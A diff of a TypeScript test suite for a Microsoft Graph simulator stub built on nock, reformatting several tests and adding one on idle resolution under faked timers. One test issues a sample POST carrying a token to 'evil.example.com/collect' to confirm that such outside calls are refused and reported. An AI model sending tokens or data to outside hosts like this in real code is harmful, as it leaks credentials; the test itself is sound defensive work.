@@ -34,7 +34,12 @@ function scene(options?: StubOptions): { sim: Simulator; stub: GraphStub; ask: (
 }
 
 async function tokenFor(sim: Simulator, refreshToken: string): Promise<string> {
-  const body = new URLSearchParams({ grant_type: "refresh_token", client_id: sim.clientId, scope: everyScope, refresh_token: refreshToken });
+  const body = new URLSearchParams({
+    grant_type: "refresh_token",
+    client_id: sim.clientId,
+    scope: everyScope,
+    refresh_token: refreshToken,
+  });
   const response = await fetch(`https://login.microsoftonline.com/${sim.tenantId}/oauth2/v2.0/token`, { method: "POST", body });
   return ((await response.json()) as { access_token: string }).access_token;
 }
@@ -101,15 +106,17 @@ test("every cloud's names are answered", async () => {
 test("a JSON body, a form and a query reach the simulator as they were sent, and answers keep status, headers and URL", async () => {
   const { sim, ask } = scene();
   const id = sim.mailbox(address).deliver();
-  const patched = await ask(`/me/messages/${id}?$select=categories`, {
+  const patched = await ask(`/me/messages/${id}`, {
     method: "PATCH",
     headers: { "content-type": "application/json", prefer: 'IdType="ImmutableId"' },
     body: JSON.stringify({ categories: ["größe", "b"] }),
   });
   expect(patched.status).toBe(200);
   expect(patched.headers.get("request-id")).toMatch(/^[0-9a-f-]{36}$/);
-  expect(patched.url).toBe(`${graphOrigin}/v1.0/me/messages/${id}?$select=categories`);
   expect(sim.mailbox(address).message(id)?.categories).toEqual(["größe", "b"]);
+  const read = await ask(`/me/messages/${id}?$select=categories`, { headers: { prefer: 'IdType="ImmutableId"' } });
+  expect(read.url).toBe(`${graphOrigin}/v1.0/me/messages/${id}?$select=categories`);
+  expect(await read.json()).toMatchObject({ id, categories: ["größe", "b"] });
   const gone = await ask(`/me/messages/${id}`, { method: "DELETE", headers: { prefer: 'IdType="ImmutableId"' } });
   expect([gone.status, await gone.text()]).toEqual([204, ""]);
 });
@@ -176,7 +183,9 @@ test("another host that is asked is named, without what was asked of it; one wit
   expect(await (await fetch("https://crm.example.com/tickets")).text()).toBe("none");
   await expect(fetch("https://allowed.example.com/")).rejects.toThrow();
   stub.done();
-  await expect(fetch("https://evil.example.com/collect?token=abc", { method: "POST", body: "mine" })).rejects.toThrow("Disallowed net connect");
+  await expect(fetch("https://evil.example.com/collect?token=abc", { method: "POST", body: "mine" })).rejects.toThrow(
+    "Disallowed net connect",
+  );
   expect(() => stub.done()).toThrow(/another host was asked: POST evil\.example\.com\/collect$/);
 });
 
@@ -196,7 +205,9 @@ test("what the simulator does not know is named", async () => {
 });
 
 test("what is left to interceptors of the test's own is theirs; what they do not answer is named", async () => {
-  const { stub, ask } = scene({ leave: ({ method, host, path }) => method === "POST" && host === "graph.microsoft.com" && path.endsWith("/sendMail") });
+  const { stub, ask } = scene({
+    leave: ({ method, host, path }) => method === "POST" && host === "graph.microsoft.com" && path.endsWith("/sendMail"),
+  });
   nock(graphOrigin).post("/v1.0/me/sendMail").reply(202);
   expect((await ask("/me/sendMail", { method: "POST", body: "{}" })).status).toBe(202);
   expect((await ask("/me")).status).toBe(200);
@@ -241,19 +252,41 @@ test("a nock that is stubbed already, and one that is off, are refused", () => {
   expect(() => stubGraph(nock, sim)).toThrow("NOCK_OFF");
 });
 
+test("idle resolves when what was asked is answered and read, with timers faked as well", async () => {
+  const { sim, stub, ask } = scene();
+  await ask("/me");
+  vi.useFakeTimers();
+  onTestFinished(() => void vi.useRealTimers());
+  let read = 0;
+  for (let number = 1; number <= 50; number += 1) {
+    void ask("/me")
+      .then((response) => response.json())
+      .then(() => {
+        read += 1;
+      });
+    await stub.idle();
+    expect(read).toBe(number);
+  }
+  expect(sim.log.count({ route: "me" })).toBe(51);
+});
+
 test("under faked timers a daemon lives through an hour of polling, and is marked and throttled in it", async () => {
   vi.useFakeTimers({ now: Date.parse("2026-03-14T08:00:00Z") });
   onTestFinished(() => void vi.useRealTimers());
   const { sim, stub } = scene();
   const seen: string[] = [];
-  const daemon = await through(stub, daemonOn(sim, { defaults: {}, handler: ({ message }) => void seen.push(message.receivedAt.toISOString()) }));
+  const daemon = await through(
+    stub,
+    daemonOn(sim, { defaults: {}, handler: ({ message }) => void seen.push(message.receivedAt.toISOString()) }),
+  );
   await through(stub, daemon.start());
   await pass(stub, 60_000);
   const before = sim.log.count({ route: "delta" });
   sim.mailbox(address).deliver();
   const marked = stub.expect({ route: "mark", times: 1 });
   stub.expect({ route: "delta", fail: { status: 429, retryAfter: 600 } });
-  const at = Date.now();
+  // Exchange keeps whole seconds.
+  const at = Math.floor(Date.now() / 1000) * 1000;
   await pass(stub, 3_600_000);
   await through(stub, daemon.stop());
   expect(seen).toEqual([new Date(at).toISOString()]);
